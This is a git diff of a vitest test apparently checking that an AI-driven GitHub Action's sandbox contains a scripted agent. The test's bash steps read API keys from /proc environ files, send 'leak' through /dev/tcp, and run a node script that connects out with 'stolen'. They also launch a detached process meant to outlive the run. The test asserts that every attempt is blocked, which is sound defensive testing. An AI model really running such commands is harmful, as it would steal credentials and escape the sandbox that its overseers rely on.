@@ -9,7 +9,7 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterEach, describe, expect, it } from 'vitest';
 import { commentEvent, E2E_API_KEY, runActionProcess, startActionServers, type ActionServers } from '../support/action-harness.js';
-import { processesMatching, startTcpListener, type Listener } from '../support/sandbox-fixtures.js';
+import { connectScript, processesMatching, startTcpListener, type Listener } from '../support/sandbox-fixtures.js';
 import { endTurn, reply, toolUse } from '../support/scripted-model.js';
 
 let servers: ActionServers | null = null;
@@ -40,9 +40,11 @@ describe('the action, sandboxed', () => {
           `echo "action environ: $(cat /proc/$(cat action.pid)/environ 2>&1 | tr "\\0" "\\n" | grep -c ${keyPrefix}) key lines"`,
           `echo "any environ: $(cat /proc/[0-9]*/environ 2>/dev/null | tr "\\0" "\\n" | grep -c -e ${keyPrefix} -e INPUT_) lines"`,
           `(echo leak > /dev/tcp/127.0.0.1/${listener.port}) 2>/dev/null && echo ESCAPE dev-tcp`,
+          'node connect.js',
           `setsid sleep ${marker} > /dev/null 2>&1 < /dev/null &`,
           'echo done',
         ].join('\n'),
+        'connect.js': connectScript(listener.port, 'stolen'),
       },
       whileRunning: (child, paths) => writeFileSync(join(paths.workspace, 'action.pid'), String(child.pid)),
     });
@@ -59,6 +61,11 @@ describe('the action, sandboxed', () => {
     expect(toolResult).not.toContain('ESCAPE');
     expect(listener.hits()).toBe(0);
     expect(processesMatching(`sleep ${marker}`)).toEqual([]);
+    // The connection the proxy refused is an annotation with the policy line that permits it, and counted.
+    expect(run.stdout).toContain(
+      `::warning title=The sandbox refused a connection::Bash (npm test) was refused a connection: the sandbox refused a connection to 127.0.0.1:${listener.port}: 127.0.0.1 is not in sandbox.network.allowedDomains. To permit it, set \`sandbox.network.allowedDomains: [127.0.0.1]\` in the policy.`,
+    );
+    expect(run.outputs['denials']).toBe('1');
   }, 60_000);
 
   it('fails before any model call when the sandbox cannot start, naming the cause and the fix', async () => {
